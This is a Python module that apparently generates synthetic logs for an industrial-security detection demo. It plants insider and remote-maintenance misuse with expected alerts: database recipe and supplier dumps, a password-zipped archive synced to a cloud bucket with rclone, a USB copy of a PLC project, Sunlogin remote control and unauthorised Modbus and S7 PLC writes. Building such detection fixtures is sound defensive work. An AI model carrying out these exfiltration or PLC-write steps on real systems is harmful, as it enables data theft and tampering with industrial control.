"""Planted insider and remote O&M misuse: the same night, an engineer takes the recipes home.

The vendor account comes in over the VPN at 01:15 and holds an unrecorded bastion session on
the engineering station, where a Sunlogin client also starts; a process engineer logs into the
MES database server directly, is granted access, exports the recipe table, bulk-reads and pages
through the work orders, dumps the supplier master to a file, zips it with a password, syncs it
to a cloud bucket and copies a PLC project to a USB drive; the MES server then writes to a
Modbus and an S7 PLC.
"""

from __future__ import annotations

import random
from datetime import timedelta
from typing import Any

from indsec.demo import logs_formats as fmt
from indsec.demo.logs_attacks import Planted, night_at, plant_all, planted
from indsec.demo.logs_cast import (
    FILE_ACTIVITY_LOG,
    MARIADB_AUDIT_LOG,
    Cast,
    Line,
    PlantedAttack,
)
from indsec.demo.logs_noise_data import pg_line, pg_session
from indsec.demo.logs_noise_plant import ecs_dns, ecs_process, modbus_exchange, s7_exchange
from indsec.demo.logs_sessions import (
    Session,
    bastion_lines,
    conn_record,
    execve_lines,
    ssh_login_lines,
    vpn_lines,
)

CN_REMOTE_DNS = "db898fc0-6891-4a67-acaa-91699212d7a9"
SUNLOGIN_PROCESS = "e3facbfa-0474-406e-a800-91a4ddf1b08e"
VENDOR_VPN = "1492b236-2a02-4fb7-a84e-b4f6d40dffee"
VENDOR_BASTION = "4319b88e-cd36-44a7-9936-4e6937a57508"
UNRECORDED = "a1c830f9-b4ed-4f12-a069-88e741acd476"
SSH_BYPASS = "5c80fc5a-4ae3-47c5-b0f4-8425cb7b8d67"
CONN_BYPASS = "dfa3fda5-dd35-449f-b715-0717f623edad"
MODBUS_WRITE = "a4667e0e-1b0f-4ad8-a4ea-8a1977cad487"
S7_WRITE = "95caa760-9f36-4a68-9a1c-f9850711524b"
PG_GRANT = "aa483b60-9565-4f2b-8bd2-f353ce76c8cf"
PG_COPY = "26ac22cc-9cd5-49c8-87e9-4b29bb2fd487"
PG_OFF_HOURS = "ed459858-4faa-4853-b024-846ee7922334"
PG_BULK = "637a1e3c-cd21-4ccb-a1bd-11dec0e66f57"
READ_BURST = "665e1ec5-44ab-4937-b244-c98b21028ac1"
OUTFILE = "1a1cb263-d6c3-4571-816b-4916521c9eba"
ARCHIVE = "3439f098-a483-44e8-b6b9-6da801a7a244"
CLOUD_SYNC = "20b4af4a-3fb3-403f-86e9-eb30ba14064f"
USB_COPY = "e14636c9-a4cc-4da0-ba7c-6c90716e0b72"

VENDOR = "vendor_remote"
PAGES = 32
"""Work-order pages the insider reads, 100 rows each: more than the burst rule's 30 reads."""


def remote_control(cast: Cast, rng: random.Random) -> Planted:
    """Sunlogin started on the engineering station, and its lookup of Oray's servers."""
    client = "C:\\Program Files\\Oray\\SunLogin\\SunloginClient\\SunloginClient.exe"
    process = {"pid": 8120, "executable": client, "command_line": f'"{client}" --mod=service'}
    process["parent"] = {"executable": "C:\\Windows\\System32\\services.exe"}
    lines = [
        ecs_process(night_at(5), "EWS-01", "windows", process, "NT AUTHORITY\\SYSTEM"),
        ecs_dns(night_at(5.1), "EWS-01", "client.oray.net", client),
    ]
    return lines, [
        PlantedAttack("remote_om", SUNLOGIN_PROCESS, 1, "SunloginClient.exe on EWS-01", True),
        planted("remote_om", CN_REMOTE_DNS, 1, "EWS-01 resolved client.oray.net"),
    ]


def vendor_night(cast: Cast, rng: random.Random) -> Planted:
    """The vendor account over VPN and through the bastion at night, with recording off."""
    tunnel = "172.16.0.66"
    session = Session(VENDOR, "EWS-01", "engineer", "rdp", night_at(20), 80, tunnel, recorded=False)
    lines = vpn_lines(VENDOR, "203.0.113.66", tunnel, night_at(15), session.end)
    lines += bastion_lines(cast, session, rng)
    return lines, [
        planted("remote_om", VENDOR_VPN, 1, "vendor_remote VPN connection at 01:15"),
        planted("remote_om", VENDOR_BASTION, 1, "vendor_remote bastion session at 01:20"),
        planted("remote_om", UNRECORDED, 1, "that session was not recorded"),
    ]


def bastion_bypass(cast: Cast, rng: random.Random) -> Planted:
    """root logs into the MES database server straight from an office workstation."""
    source = cast.workstations[cast.insider]
    session = Session("root", "MES-DB01", "root", "ssh", night_at(50), 55, source)
    lines = ssh_login_lines(session, source, rng)
    lines.append(
        conn_record(night_at(50), (source, 51822), (cast.ip("MES-DB01"), 22), "ssh", 3300.0)
    )
    return lines, [
        planted("remote_om", SSH_BYPASS, 1, f"root SSH login on mes-db01 from {source}"),
        planted("remote_om", CONN_BYPASS, 1, "Zeek saw the same connection"),
    ]


def _paging(session: dict[str, Any]) -> list[Line]:
    """The shipments (customers' addresses, drivers' phones) read page by page, every 7 s."""
    lines = []
    for page in range(PAGES):
        sql = f"SELECT * FROM tms_shipment ORDER BY ydh LIMIT 50 OFFSET {50 * page}"
        moment = night_at(95) + timedelta(seconds=7 * page)
        lines.append(pg_line(session, moment, 3 + page, "SELECT", fmt.pg_statement(sql, 3.1)))
    return lines


def database_theft(cast: Cast, rng: random.Random) -> Planted:
    """GRANT, COPY of the recipe table, a bulk read and paging of the shipments."""
    dba = pg_session("postgres", cast.ip("MES-DB01"), "psql", night_at(85))
    user = pg_session(cast.insider, cast.workstations[cast.insider], "psql", night_at(88))
    grant = fmt.pg_statement(f"GRANT SELECT ON tms_shipment TO {cast.insider}")
    export = fmt.pg_statement("COPY public.pp_recipe TO STDOUT WITH (FORMAT csv, HEADER)", 41.2)
    bulk = fmt.pg_plan("SELECT * FROM tms_shipment", "tms_shipment", 1600, 930.0)
    lines = [
        pg_line(dba, night_at(88), 1, "GRANT", grant),
        pg_line(user, night_at(90), 1, "COPY", export),
        pg_line(user, night_at(91), 2, "SELECT", bulk),
        *_paging(user),
    ]
    return lines, [
        planted("personnel", PG_GRANT, 1, f"postgres granted tms_shipment to {cast.insider}"),
        planted("personnel", PG_COPY, 1, "COPY pp_recipe TO STDOUT"),
        planted("personnel", PG_OFF_HOURS, 1, "the core recipe table read at 02:30"),
        planted("personnel", PG_BULK, 1, "1600 shipments in one SELECT"),
        planted("personnel", READ_BURST, 1, f"{PAGES} pages of shipments in four minutes"),
    ]


def supplier_dump(cast: Cast, rng: random.Random) -> Planted:
    """The supplier master written to a server file with SELECT … INTO OUTFILE."""
    moment, host = night_at(93), cast.workstations[cast.insider]
    base = {"server": "ERP-APP01", "user": cast.insider, "host": host, "connection": 912}
    sql = "SELECT * FROM srm_gys INTO OUTFILE '/tmp/gys.csv'"
    rows = [
        {**base, "operation": "CONNECT", "database": "erp"},
        {**base, "operation": "QUERY", "database": "erp", "query": 77001, "object": sql},
        {
            **base,
            "operation": "READ",
            "database": "erp",
            "query": 77001,
            "object": "srm_gys",
            "retcode": "",
        },
    ]
    lines = [Line(MARIADB_AUDIT_LOG, moment, fmt.mariadb_audit(moment, row)) for row in rows]
    return lines, [planted("personnel", OUTFILE, 1, "srm_gys dumped INTO OUTFILE")]


def exfiltration(cast: Cast, rng: random.Random) -> Planted:
    """An encrypted zip, rclone to a cloud bucket, and a PLC project copied to a USB drive."""
    archive = "/tmp/mes_export.zip"
    rclone: dict[str, Any] = {"pid": 8801, "executable": "/usr/local/bin/rclone"}
    rclone["command_line"] = f"rclone copy {archive} oss-remote:gear-backup"
    rclone["parent"] = {"executable": "/usr/bin/bash"}
    usb: dict[str, Any] = {"timestamp": night_at(115).isoformat(timespec="milliseconds")}
    usb["host"] = "EWS-01"
    usb.update(user=f"PLANT\\{cast.insider}", process="C:\\Windows\\explorer.exe")
    usb.update(path="F:\\拷贝\\Line1_Furnace.xml", operation="create", size=88_211, entropy=5.2)
    lines = [
        *execve_lines(
            night_at(110),
            9301,
            ["/usr/bin/zip", "-r", "-P", "Gear2024", archive, "/tmp/pp_recipe.csv"],
        ),
        ecs_process(night_at(112), "mes-app01", "linux", rclone, cast.insider),
        Line(FILE_ACTIVITY_LOG, night_at(115), fmt.json_record(usb)),
    ]
    return lines, [
        planted("personnel", ARCHIVE, 1, "zip -P on MES-APP01"),
        planted("personnel", CLOUD_SYNC, 1, "rclone copy to an OSS bucket"),
        planted("personnel", USB_COPY, 1, "PLC project copied to F:"),
    ]


def plc_writes(cast: Cast, rng: random.Random) -> Planted:
    """The MES server, not an engineering station, writes to a Modbus and an S7 PLC."""
    mes, modbus_plc, s7_plc = cast.ip("MES-APP01"), cast.ip("PLC-L6-ASSY"), cast.ip("PLC-L1-FURN")
    lines = [
        conn_record(night_at(118), (mes, 50991), (modbus_plc, 502), "modbus", 1.2),
        *modbus_exchange(night_at(118), mes, modbus_plc, "WRITE_SINGLE_REGISTER", 4711),
        *s7_exchange(night_at(119), mes, s7_plc, "WRITE_VAR", 4712),
    ]
    return lines, [
        planted("remote_om", MODBUS_WRITE, 1, "MES-APP01 wrote a PLC-L6-ASSY register"),
        planted("remote_om", S7_WRITE, 1, "MES-APP01 wrote a PLC-L1-FURN variable"),
    ]


def insider_and_remote(cast: Cast, rng: random.Random) -> Planted:
    """Every planted personnel and remote O&M trace, with the alerts each must raise."""
    plants = (remote_control, vendor_night, bastion_bypass, database_theft, supplier_dump)
    return plant_all((*plants, exfiltration, plc_writes), cast, rng)
